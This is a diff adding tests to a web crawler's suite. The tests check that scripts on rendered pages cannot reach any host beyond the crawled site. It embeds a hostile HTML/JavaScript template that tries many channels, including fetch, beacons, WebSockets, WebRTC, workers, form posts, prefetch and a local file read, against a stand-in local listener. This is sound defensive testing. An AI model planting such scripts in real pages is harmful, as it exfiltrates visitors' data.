@@ -6,13 +6,16 @@ import os
 import re
 import select
 import signal
+import socket
 import subprocess
 import sys
 import uuid
 from collections.abc import Iterator
 from contextlib import contextmanager, suppress
+from dataclasses import replace
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from threading import Event
+from threading import Event, Thread
 from typing import Any
 
 import pytest
@@ -254,6 +257,118 @@ def test_views_are_read_where_everything_is_rendered(tmp_path: Path) -> None:
         server.clear_faults()
         plain = crawl(server.url, tmp_path / "plain", sections=SECTION)
         assert [a["views"] for a in plain.articles] == [None] * 4
+
+
+# --- What a page may reach ------------------------------------------------------------------------
+
+HOSTILE = """<link rel="prefetch" href="http://{far}/prefetch">
+<link rel="preload" as="script" href="http://{far}/preload">
+<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["http://{far}/spec"]}}],
+  "prerender": [{{"source": "list", "urls": ["/leave?prerender"]}}]}}</script>
+<img src="http://{far}/image"><iframe src="http://{far}/frame"></iframe><iframe name="in"></iframe>
+<form id="a" method="post" target="in" action="http://{far}/form"><input name="x"></form>
+<form id="b" method="post" target="_blank" action="http://{far}/popup-form"><input name="x"></form>
+<script>
+const far = "{far}", stun = {{iceServers: [{{urls: "stun:{udp}"}}]}}, plain = {{mode: "no-cors"}};
+const frame = () => document.body.appendChild(document.createElement("iframe"));
+for (const attempt of [
+  () => fetch("http://" + far + "/fetch", plain),
+  () => fetch("http://" + far + "/keepalive", {{keepalive: true, ...plain}}),
+  () => fetch("/leave?fetch", plain),
+  () => fetch("file:///etc/hostname"),
+  () => {{ new Image().src = "/leave?image"; }},
+  () => {{ const x = new XMLHttpRequest(); x.open("GET", "http://" + far + "/xhr"); x.send(); }},
+  () => navigator.sendBeacon("http://" + far + "/beacon", "x"),
+  () => navigator.sendBeacon("/leave?beacon", "x"),
+  () => new WebSocket("ws://" + far + "/socket"),
+  () => new WebSocket("ws://localhost:" + far.split(":")[1] + "/socket"),
+  () => new EventSource("http://" + far + "/events"),
+  () => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + far + "/worker',",
+    "{{mode: 'no-cors'}}); new WebSocket('ws://" + far + "/worker-socket')"]))),
+  () => navigator.serviceWorker.register("/leave?worker"),
+  () => window.open("http://" + far + "/popup"),
+  () => window.open("/leave?popup"),
+  () => document.getElementById("a").submit(),
+  () => document.getElementById("b").submit(),
+  () => import("http://" + far + "/module"),
+  () => frame().contentWindow.fetch("http://" + far + "/blank-frame", plain),
+  () => new WebTransport("https://{udp}/"),
+  () => new RTCPeerConnection(stun).createDataChannel("x"),
+  () => {{ const call = new (frame().contentWindow.RTCPeerConnection)(stun);
+           call.createDataChannel("x");
+           call.createOffer().then(offer => call.setLocalDescription(offer)); }},
+  () => document.querySelector(".js-more").addEventListener(
+    "click", () => {{ location = "http://" + far + "/location"; }}),
+]) try {{ Promise.resolve(attempt()).catch(() => 0); }} catch (error) {{}}
+</script>"""
+
+
+def with_end(answer: Answer, html: str) -> bytes:
+    """Return a page with something more at the end of its body."""
+    assert isinstance(answer.body, bytes)
+    return answer.body.replace(b"</body>", html.encode() + b"</body>")
+
+
+@contextmanager
+def far_away() -> Iterator[tuple[str, str, list[str]]]:
+    """Listen on this machine beside the site: host and port for TCP and UDP, and what comes."""
+    heard: list[str] = []
+
+    class Hears(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.append(f"{self.command} {self.path}")
+            self.send_error(404)
+
+        do_POST = do_OPTIONS = do_CONNECT = do_GET  # noqa: N815
+
+        def log_message(self, *_: Any) -> None:
+            """Keep quiet."""
+
+    with (
+        ThreadingHTTPServer(("127.0.0.1", 0), Hears) as server,
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
+    ):
+        datagrams.bind(("127.0.0.1", 0))
+        datagrams.setblocking(False)
+        Thread(target=server.serve_forever, daemon=True).start()
+        try:
+            port = datagrams.getsockname()[1]
+            yield f"127.0.0.1:{server.server_port}", f"127.0.0.1:{port}", heard
+            with suppress(BlockingIOError):
+                heard.append(f"a datagram: {datagrams.recv(100)!r}")
+        finally:
+            server.shutdown()
+
+
+@needs_browser
+def test_a_page_s_scripts_reach_the_site_and_nothing_else(tmp_path: Path) -> None:
+    with site(poslednie_novosti="button") as server, far_away() as (far, udp, heard):
+        hostile = HOSTILE.format(far=far, udp=udp)
+        server.fault(
+            re.compile(f"^{LISTING}$"), Fault(lambda a: replace(a, body=with_end(a, hostile)))
+        )
+        server.fault(re.compile("^/leave"), Fault.redirect(f"http://{far}/redirected", 307))
+        run = crawl(server.url, tmp_path, *QUICK, sections=SECTION)
+        left = {hit.path for hit in server.log if hit.path.startswith("/leave")}
+    assert (run.status, len(run.articles)) == (0, 25), run.log
+    assert "/leave?fetch" in left  # the scripts ran
+    assert heard == []
+
+
+@needs_browser
+@pytest.mark.parametrize("way", ["status", "script"])
+def test_a_page_that_leaves_the_site_is_not_followed(tmp_path: Path, way: str) -> None:
+    with site(articles=4) as server, far_away() as (far, _, heard):
+        path = server.newsroom.posts[0].path
+        away = f"http://{far}/elsewhere"
+        script = "<html><head></head><body><script>location = '/leave'</script></body></html>"
+        by_script = Fault(lambda a: replace(a, body=script))
+        server.fault(path, Fault.redirect(away, 302) if way == "status" else by_script)
+        server.fault("/leave", Fault.redirect(away, 302))
+        run = crawl(server.url, tmp_path, *QUICK, sections=SECTION, render="always")
+    assert len(run.articles) == 3
+    assert heard == []
+    assert run.rejected[server.url + path]["reason"] == "redirected"
 
 
 # --- Ends -----------------------------------------------------------------------------------------
